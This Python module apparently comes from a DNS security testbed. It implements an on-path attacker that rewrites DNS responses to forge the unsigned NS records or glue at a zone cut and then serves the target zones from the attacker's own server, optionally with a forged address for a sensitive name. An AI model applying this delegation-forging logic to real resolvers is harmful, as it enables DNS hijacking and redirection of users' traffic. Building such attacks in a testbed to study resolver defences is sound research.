"""Points a delegation to the attacker's own name server, or only its glue to the attacker's address."""

import functools
from collections.abc import Iterable
from typing import Literal

import dns.name
import dns.rdataclass
import dns.rdatatype
import dns.rrset
from pydantic import Field

from testbed.attack.api import Capability, MessageAction, Replace, Response, Rewriter, RewriterParameters
from testbed.core.zone import Zone


class ForgeNsParameters(RewriterParameters):
    """What is forged, and what the attacker's server then answers."""

    forge: Literal["name-servers", "glue"] = Field(
        "name-servers",
        description="name-servers: the NS RRset names the attacker's server. glue: the names stay, and "
        "addresses of name servers become the attacker's.",
    )
    zone: str = Field("", description="The zone whose delegation is forged; the target zone if empty.")
    answers: Literal["copied", "forged"] = Field(
        "copied",
        description="copied: the attacker's server hands out true copies. forged: another address for the "
        "sensitive name.",
    )


class ForgeNs(Rewriter):
    """Forges what no signature protects at a zone cut: the NS RRset and glue (RFC 4035 section 2.2).

    The server that it leads to answers for the zone and, when that lies above the target, for every zone
    down to it, each with the next delegation pointing to itself. When it does not lie there, the attacker is
    after the name servers with names in it: it gives them its own address, and stands in for them, too.
    """

    capability = Capability.ON_PATH
    source = "RFC 3833 section 2.3; draft-ietf-dnsop-ns-revalidation"
    position = "the link of a parent"
    Parameters = ForgeNsParameters
    parameters: ForgeNsParameters

    @property
    def _zone(self) -> dns.name.Name:
        return dns.name.from_text(self.parameters.zone) if self.parameters.zone else self.scene.target_zone

    def response(self, response: Response) -> MessageAction:
        """Forge the delegation, wherever it is given."""
        message = response.message
        if self.parameters.forge == "glue":
            forged = [self._forge_addresses(section) for section in (message.answer, message.additional)]
        else:
            forged = [self._forge_servers(section) for section in (message.answer, message.authority)]
        if not any(forged):
            return None
        self.matched()
        return Replace(message)

    def _forge_servers(self, section: list[dns.rrset.RRset]) -> bool:
        forged = False
        for index, rrset in enumerate(section):
            if rrset.rdtype == dns.rdatatype.NS and rrset.name == self._zone:
                own = self.scene.own_name.to_text()
                section[index] = dns.rrset.from_text(rrset.name, rrset.ttl, "IN", "NS", own)
                forged = True
        return forged

    def _forge_addresses(self, section: list[dns.rrset.RRset]) -> bool:
        names = set(self.scene.server_names.values()) - {self.scene.own_name}
        forged = False
        for index, rrset in enumerate(section):
            if self.scene.own_address(rrset.rdtype) and rrset.name in names:
                section[index] = self.scene.led_away(rrset)
                forged = True
        return forged

    def serves(self) -> Iterable[Zone]:
        """The zones that the forged delegation leads to, or all that a forged address may be for."""
        for origin, zone in self.scene.zones.items():
            if origin in (dns.name.root, self.scene.own_zone):
                continue
            if self.parameters.forge == "glue" or self._captures(zone):
                yield Zone(origin, (self._served(rrset, zone) for rrset in zone))

    def _captures(self, zone: Zone) -> bool:
        """Whether a forged NS RRset brings the resolver to the attacker's server for a zone."""
        if not self._after_names:
            return self.scene.target_zone.is_subdomain(zone.origin) and zone.origin.is_subdomain(self._zone)
        return zone.origin.is_subdomain(self._zone) or any(
            self.scene.target_zone.is_subdomain(zone.origin)
            and zone.origin.is_subdomain(above)
            and any(server.target.is_subdomain(self._zone) for server in servers)
            for above, servers in self._apexes
        )

    @property
    def _after_names(self) -> bool:
        """Whether the forged zone holds names of servers, and is none of those that lead to the target."""
        return not self.scene.target_zone.is_subdomain(self._zone)

    @functools.cached_property
    def _apexes(self) -> list[tuple[dns.name.Name, dns.rrset.RRset]]:
        """The zones that lead to the target, each with its name servers."""
        pairs = ((origin, zone.rrset(origin, dns.rdatatype.NS)) for origin, zone in self.scene.zones.items())
        target = self.scene.target_zone
        return [(origin, found) for origin, found in pairs if found and target.is_subdomain(origin)]

    def _served(self, rrset: dns.rrset.RRset, zone: Zone) -> dns.rrset.RRset:
        """A record of a zone as the attacker's server gives it away.

        The zone's own NS RRset is left as it is where a signature over it would no longer hold.
        """
        chosen = self.parameters
        forged = chosen.forge == "glue" or (self._after_names and rrset.name.is_subdomain(self._zone))
        if forged and rrset.name in set(self.scene.server_names.values()):
            rrset = self.scene.led_away(rrset)
        if chosen.forge == "name-servers" and rrset.rdtype == dns.rdatatype.NS:
            towards_target = self.scene.target_zone.is_subdomain(rrset.name)
            if towards_target and not (rrset.name == zone.origin and zone.signed):
                return dns.rrset.from_text(rrset.name, rrset.ttl, "IN", "NS", self.scene.own_name.to_text())
        if chosen.answers == "forged" and rrset.name == self.scene.sensitive_name:
            return self.scene.led_away(rrset)
        return rrset
